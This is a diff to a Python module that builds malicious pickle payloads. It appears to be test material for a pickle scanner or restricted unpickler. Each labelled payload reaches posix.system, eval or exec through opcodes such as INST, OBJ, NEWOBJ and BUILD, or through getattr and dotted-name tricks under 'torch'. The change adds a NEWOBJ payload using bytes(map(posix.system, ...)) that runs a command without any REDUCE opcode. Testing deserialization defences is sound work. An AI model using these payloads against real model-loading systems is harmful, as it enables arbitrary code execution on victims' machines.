@@ -117,7 +117,7 @@ def payloads(place: Place) -> Iterator[tuple[str, str, bytes]]:
     yield "old-exec", "names a builtin as Python 2 did", call("__builtin__.eval", word(f"exec({python_of(place)!r})"))
     yield "inst", "opcode INST", b"(" + shell("inst") + b"iposix\nsystem\n"
     yield "obj", "opcode OBJ", b"(" + name("posix.system") + shell("obj") + b"o"
-    yield "newobj", "opcode NEWOBJ of a class whose making runs code", newobj(place)
+    yield "newobj", "opcode NEWOBJ of classes whose making calls a function", newobj(place)
     yield "build", "opcode BUILD puts a function in the place of __setstate__", build(place)
     yield "getattr", "reaches a function through getattr", getattr_chain(place)
     yield "dotted", "a dotted name below an allowed module", dotted("torch", "serialization.os.system", place)
@@ -179,8 +179,10 @@ def python_of(place: Place) -> str:
 
 
 def newobj(place: Place) -> bytes:
-    arguments = pack(pack(word("sh"), word("-c"), word(place.shell("newobj"))))
-    return name("subprocess.Popen") + arguments + b"\x81"
+    """Have bytes made of a map, which calls a function as it is gone through; nothing is called by REDUCE."""
+    commands = b"](" + word(place.shell("newobj")) + b"e"
+    lazy = name("builtins.map") + pack(name("posix.system"), commands) + b"\x81"
+    return name("builtins.bytes") + pack(lazy) + b"\x81"
 
 
 def build(place: Place) -> bytes:
